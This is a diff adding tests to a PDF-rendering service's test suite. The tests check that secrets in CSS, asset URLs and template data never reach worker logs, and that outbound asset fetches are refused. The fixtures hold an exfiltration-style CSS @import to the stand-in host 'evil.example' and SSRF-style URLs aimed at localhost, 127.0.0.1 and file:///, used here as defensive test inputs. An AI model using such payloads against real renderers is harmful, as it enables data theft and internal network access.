@@ -17,8 +17,9 @@ from pypdf import PdfReader
 import worker.fetcher
 from shared.config import PROJECT_ROOT
 from shared.errors import PageLimitExceeded, TemplateError
+from shared.logs import JsonFormatter, quiet_weasyprint
 from tests.conftest import TENANT_KEYS, JobsClient
-from tests.support import LiveServer, RecordingServer, WorkerProcess
+from tests.support import LiveServer, RecordingServer, WorkerProcess, wait_until
 from worker.render import Renderer
 
 
@@ -246,6 +247,53 @@ def test_api_keys_and_template_data_never_logged(no_workers: None, client, auth,
     logged = caplog.text + "".join(str(r.__dict__) for r in caplog.records)
     assert "4111-SECRET-DATA" not in logged
     assert all(key not in logged for key in TENANT_KEYS.values()) and "wrong-key-123" not in logged
+
+
+LEAK = "SSN-999-LEAK"
+LEAKY_HTML = (f"<style>p {{ colr: {LEAK} }} @font-face {{ font-family: {LEAK}; src: url(http://127.0.0.1/{LEAK}.woff) }}"
+              f"</style><p style='colr: {LEAK}'>{{{{ name }}}}</p><img src='https://localhost/a.png?ssn={LEAK}'>"
+              f"<img src='http://127.0.0.1/{LEAK}/b.png'><link rel=stylesheet href='file:///{LEAK}.css'>")
+LEAKY_CSS = f"@import url(https://evil.example/?q={LEAK}); h1 {{ colr: {LEAK} }}"
+"""A document carrying a secret in CSS declarations, a font family, asset URLs (paths and queries) and its data."""
+
+
+def logged_text(records: list[logging.LogRecord]) -> str:
+    """All a log line could show: each record as the JSON formatter writes it, plus every raw attribute."""
+    return "\n".join(JsonFormatter().format(record) + str(vars(record)) for record in records)
+
+
+@pytest.fixture
+def worker_log_policy() -> Iterator[None]:
+    """The workers' policy for WeasyPrint's logger (shared/logs.py), undone after the test."""
+    weasyprint_logger = logging.getLogger("weasyprint")
+    level, filters = weasyprint_logger.level, list(weasyprint_logger.filters)
+    quiet_weasyprint()
+    yield
+    weasyprint_logger.setLevel(level)
+    weasyprint_logger.filters[:] = filters
+
+
+def test_render_logs_no_template_data(renderer: Renderer, worker_log_policy: None,
+                                      caplog: pytest.LogCaptureFixture) -> None:
+    """Secrets in CSS, asset URLs and template values reach no log record; refusals are logged by scheme and host."""
+    caplog.set_level(logging.DEBUG)
+    renderer.render(template=None, html=LEAKY_HTML, data={"name": LEAK}, css=LEAKY_CSS)
+    with pytest.raises(TemplateError, match=LEAK):  # The tenant reads it in error.message; logs must not.
+        renderer.render(template=None, html="{{ amount|money }}", data={"amount": LEAK})
+    refused = {record.url for record in caplog.records if record.msg == "asset refused"}
+    assert refused == {"https://localhost", "http://127.0.0.1", "file://", "https://evil.example"}
+    assert LEAK not in logged_text(caplog.records)
+
+
+def test_worker_logs_no_template_data(private_db: dict[str, str], jobs: JobsClient,
+                                      spawn_worker: Callable[..., WorkerProcess]) -> None:
+    """End to end: a job with secrets in CSS, asset URLs and data completes; the worker's log holds none of them."""
+    worker = spawn_worker(private_db)
+    done = jobs.wait(jobs.submit({"html": LEAKY_HTML, "data": {"name": LEAK}, "css": LEAKY_CSS})["id"])
+    assert done["status"] == "completed", done
+    wait_until(lambda: done["id"] in worker.log_path.read_text(), timeout=10)
+    log = worker.log_path.read_text()
+    assert "asset refused" in log and LEAK not in log
 
 
 def test_security_headers_and_no_server_banner(live_api: LiveServer) -> None:
